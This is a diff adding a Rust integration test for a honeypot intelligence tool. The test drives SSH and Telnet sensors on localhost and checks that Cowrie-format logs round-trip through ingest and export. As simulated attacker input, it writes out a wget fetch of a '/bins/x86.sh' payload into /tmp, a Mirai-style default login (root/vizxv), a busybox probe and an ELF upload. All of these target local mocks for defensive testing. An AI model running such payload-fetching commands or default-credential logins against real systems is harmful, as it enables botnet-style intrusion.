@@ -285,3 +285,317 @@ fn blocklists_hold_public_attackers_only_in_every_format_and_nft_accepts_them() 
         stderr(&bad)
     );
 }
+
+/// The fields Cowrie 3.x's own code writes for each eventid (besides the envelope).
+fn cowrie_fields(eventid: &str) -> &'static [&'static str] {
+    match eventid {
+        "cowrie.session.connect" => &["src_port", "dst_ip", "dst_port"],
+        "cowrie.client.version" => &["version"],
+        "cowrie.client.kex" => &[
+            "hassh",
+            "hasshAlgorithms",
+            "kexAlgs",
+            "keyAlgs",
+            "encCS",
+            "macCS",
+            "compCS",
+            "langCS",
+        ],
+        "cowrie.login.success" | "cowrie.login.failed" => &["username"],
+        "cowrie.command.input" => &["input"],
+        "cowrie.session.file_download" => &["url", "outfile", "shasum", "duplicate"],
+        "cowrie.session.file_download.failed" => &["url"],
+        "cowrie.session.file_upload" => &["filename", "outfile", "shasum"],
+        "cowrie.session.closed" => &["duration_ms"],
+        "cowrie.direct-tcpip.request" => &["dst_ip", "dst_port"],
+        other => panic!("hpti wrote an eventid Cowrie's tools may not know: {other}"),
+    }
+}
+
+/// A child process killed if the test fails before stopping it.
+struct KillOnDrop(std::process::Child);
+
+impl Drop for KillOnDrop {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// Reads from a Telnet session until `needle` (or a timeout).
+fn read_until(stream: &mut std::net::TcpStream, needle: &str) {
+    use std::io::Read as _;
+    let mut seen = Vec::new();
+    let mut byte = [0u8; 1];
+    while !String::from_utf8_lossy(&seen).contains(needle) {
+        match stream.read(&mut byte) {
+            Ok(1) => seen.push(byte[0]),
+            _ => break,
+        }
+    }
+}
+
+/// What must come back from a Cowrie line: everything but what Cowrie has no place
+/// for (the enrichment, the raw line).
+fn comparable(event: &Event) -> serde_json::Value {
+    let mut value = serde_json::to_value(event).unwrap();
+    let object = value.as_object_mut().unwrap();
+    object.remove("enrichment");
+    object.remove("raw");
+    object.remove("observed");
+    value
+}
+
+#[test]
+fn events_of_the_ssh_and_telnet_sensors_written_as_cowrie_json_come_back_exactly() {
+    use std::io::{BufRead as _, BufReader, Write as _};
+    use std::net::TcpStream;
+    use std::process::Stdio;
+    use std::time::Duration;
+
+    if !require_tool("ssh") || !require_tool("sshpass") || !require_tool("scp") {
+        return;
+    }
+    let runtime = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(1)
+        .enable_all()
+        .build()
+        .unwrap();
+    let server = runtime.block_on(async {
+        let server = wiremock::MockServer::start().await;
+        wiremock::Mock::given(wiremock::matchers::path("/bins/x86.sh"))
+            .respond_with(
+                wiremock::ResponseTemplate::new(200)
+                    .set_body_bytes(b"#!/bin/sh\necho hi\n".to_vec()),
+            )
+            .mount(&server)
+            .await;
+        server
+    });
+    let dir = tempfile::tempdir().unwrap();
+    let config = dir.path().join("hpti.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[data]\ndir = {:?}\n\n[metrics]\nenabled = false\n\n\
+             [sensors.ssh]\ntype = \"ssh\"\nlisten = \"127.0.0.1:0\"\n\n\
+             [sensors.telnet]\ntype = \"telnet\"\nlisten = \"127.0.0.1:0\"\nlogin_failure_delay = \"10ms\"\n\n\
+             [honeypot.fetch]\nallow = [\"127.0.0.1/32\"]\n\n\
+             [sinks.main]\ntype = \"sqlite\"\n\n\
+             [sinks.cowrie]\ntype = \"cowrie-json\"\npath = \"log/cowrie.json\"\n",
+            dir.path().join("data")
+        ),
+    )
+    .unwrap();
+    let mut child = KillOnDrop(
+        hpti()
+            .arg("--config")
+            .arg(&config)
+            .arg("run")
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap(),
+    );
+    let mut log = BufReader::new(child.0.stderr.take().unwrap()).lines();
+    let (mut ssh, mut telnet) = (None, None);
+    while ssh.is_none() || telnet.is_none() {
+        let line = log.next().expect("hpti run logs its listeners").unwrap();
+        let addr = || {
+            line.split("listening on ")
+                .nth(1)
+                .map(|rest| rest.split_whitespace().next().unwrap().to_owned())
+        };
+        if line.contains("SSH honeypot listening") {
+            ssh = addr();
+        } else if line.contains("Telnet honeypot listening") {
+            telnet = addr();
+        }
+    }
+    let drain = std::thread::spawn(move || log.map_while(Result::ok).count());
+    let ssh_port = ssh.unwrap().rsplit(':').next().unwrap().to_owned();
+    let ssh_options = |password: &str| -> Command {
+        let mut command = Command::new("sshpass");
+        command.args(["-p", password]);
+        command
+    };
+    let common_options = [
+        "-o",
+        "StrictHostKeyChecking=no",
+        "-o",
+        "UserKnownHostsFile=/dev/null",
+        "-o",
+        "PubkeyAuthentication=no",
+        "-o",
+        "LogLevel=ERROR",
+    ];
+    // A wrong password first (the honeypot refuses `root:root`? any refusal will do),
+    // then an exec session that downloads a file and one whose download fails.
+    let _ = run(ssh_options("x").arg("ssh").args(common_options).args([
+        "-o",
+        "NumberOfPasswordPrompts=1",
+        "-p",
+        &ssh_port,
+        "nobody-here@127.0.0.1",
+        "id",
+    ]));
+    let command = format!(
+        "cd /tmp; wget {}/bins/x86.sh; wget http://127.0.0.1:1/none.sh; uname -a",
+        server.uri()
+    );
+    let exec = run(ssh_options("admin123")
+        .arg("ssh")
+        .args(common_options)
+        .args(["-p", &ssh_port, "root@127.0.0.1", &command]));
+    assert!(exec.status.success(), "{}", stderr(&exec));
+    // An upload over SFTP (scp's protocol since OpenSSH 9.0).
+    let upload = dir.path().join("payload.bin");
+    std::fs::write(&upload, b"\x7fELF uploaded over sftp").unwrap();
+    let scp = run(ssh_options("admin123")
+        .arg("scp")
+        .args(common_options)
+        .args(["-P", &ssh_port])
+        .arg(&upload)
+        .arg("root@127.0.0.1:/tmp/"));
+    assert!(scp.status.success(), "{}", stderr(&scp));
+    // A direct-tcpip forward request (`ssh -W`), refused by the honeypot.
+    let _ = run(ssh_options("admin123")
+        .arg("timeout")
+        .args(["10", "ssh"])
+        .args(common_options)
+        .args([
+            "-p",
+            &ssh_port,
+            "-W",
+            "mail.example.com:25",
+            "root@127.0.0.1",
+        ]));
+    // Telnet, as a bot.
+    let mut stream = TcpStream::connect(telnet.unwrap()).unwrap();
+    stream
+        .set_read_timeout(Some(Duration::from_secs(5)))
+        .unwrap();
+    read_until(&mut stream, "login: ");
+    stream.write_all(b"root\r\n").unwrap();
+    read_until(&mut stream, "Password: ");
+    stream.write_all(b"vizxv\r\n").unwrap();
+    read_until(&mut stream, "# ");
+    stream
+        .write_all(b"cat /proc/cpuinfo; /bin/busybox ECCHI\r\n")
+        .unwrap();
+    read_until(&mut stream, "applet not found");
+    stream.write_all(b"exit\r\n").unwrap();
+    read_until(&mut stream, "logout");
+    drop(stream);
+    std::thread::sleep(Duration::from_millis(500));
+    assert!(
+        Command::new("kill")
+            .args(["-TERM", &child.0.id().to_string()])
+            .status()
+            .unwrap()
+            .success()
+    );
+    assert!(child.0.wait().unwrap().success());
+    drain.join().unwrap();
+
+    let original = common::all_events(&dir.path().join("data/hpti.db"));
+    let cowrie_json = dir.path().join("data/log/cowrie.json");
+    let text = std::fs::read_to_string(&cowrie_json).unwrap();
+    // Every line carries Cowrie's envelope and the fields Cowrie writes for its eventid.
+    let mut eventids = BTreeSet::new();
+    for line in text.lines() {
+        let record: serde_json::Value = serde_json::from_str(line).unwrap();
+        let eventid = record["eventid"].as_str().unwrap();
+        for field in [
+            "eventid",
+            "session",
+            "protocol",
+            "src_ip",
+            "src_port",
+            "sensor",
+            "uuid",
+            "timestamp",
+            "message",
+        ]
+        .iter()
+        .chain(cowrie_fields(eventid))
+        {
+            assert!(
+                !record[field].is_null(),
+                "{eventid} without {field}: {line}"
+            );
+        }
+        let timestamp = record["timestamp"].as_str().unwrap();
+        assert_eq!(
+            timestamp.len(),
+            27,
+            "six fractional digits and Z: {timestamp}"
+        );
+        assert!(timestamp.ends_with('Z'));
+        eventids.insert(eventid.to_owned());
+    }
+    for expected in [
+        "cowrie.session.connect",
+        "cowrie.client.version",
+        "cowrie.client.kex",
+        "cowrie.login.success",
+        "cowrie.login.failed",
+        "cowrie.command.input",
+        "cowrie.session.file_download",
+        "cowrie.session.file_download.failed",
+        "cowrie.session.file_upload",
+        "cowrie.direct-tcpip.request",
+        "cowrie.session.closed",
+    ] {
+        assert!(eventids.contains(expected), "no {expected} in {eventids:?}");
+    }
+
+    // Read back into an empty store: the same events, ids included.
+    let back = dir.path().join("back");
+    let back_config = dir.path().join("back.toml");
+    std::fs::write(&back_config, format!("[data]\ndir = {back:?}\n")).unwrap();
+    let ingest = run(hpti()
+        .arg("--config")
+        .arg(&back_config)
+        .args(["ingest", "--format", "cowrie"])
+        .arg(&cowrie_json));
+    assert!(ingest.status.success(), "{}", stderr(&ingest));
+    let restored = common::all_events(&back.join("hpti.db"));
+    let (written, skipped): (Vec<&Event>, Vec<&Event>) = original
+        .iter()
+        .partition(|e| hpti_intel::cowrie::to_cowrie(e).is_some());
+    // What is not written is what Cowrie has no event for: the Telnet option fingerprint.
+    for event in &skipped {
+        assert!(
+            matches!(&event.kind, EventKind::ClientFingerprint { method, .. } if method != "hassh"),
+            "{event:?} was not written"
+        );
+    }
+    assert_eq!(written.len(), text.lines().count());
+    let mut want: Vec<serde_json::Value> = written.iter().map(|e| comparable(e)).collect();
+    let mut have: Vec<serde_json::Value> = restored.iter().map(comparable).collect();
+    let key = |v: &serde_json::Value| v["id"].as_str().unwrap().to_owned();
+    want.sort_by_key(key);
+    have.sort_by_key(key);
+    assert_eq!(have.len(), want.len());
+    for (have, want) in have.iter().zip(&want) {
+        assert_eq!(have, want);
+    }
+    // hpti's own Cowrie log ingested into the store it came from adds nothing.
+    let again = run(hpti()
+        .arg("--config")
+        .arg(&config)
+        .args(["ingest", "--format", "cowrie"])
+        .arg(&cowrie_json));
+    assert!(again.status.success(), "{}", stderr(&again));
+    assert!(
+        stderr(&again).contains(&format!("0 stored, {} already stored", written.len()))
+            || stdout(&again).contains(&format!("0 stored, {} already stored", written.len())),
+        "{}{}",
+        stdout(&again),
+        stderr(&again)
+    );
+    // And `hpti export cowrie` writes the same lines as the sink did.
+    let exported = export(&config, &["cowrie", "--since", "2000-01-01"]);
+    assert_eq!(stdout(&exported), text);
+}
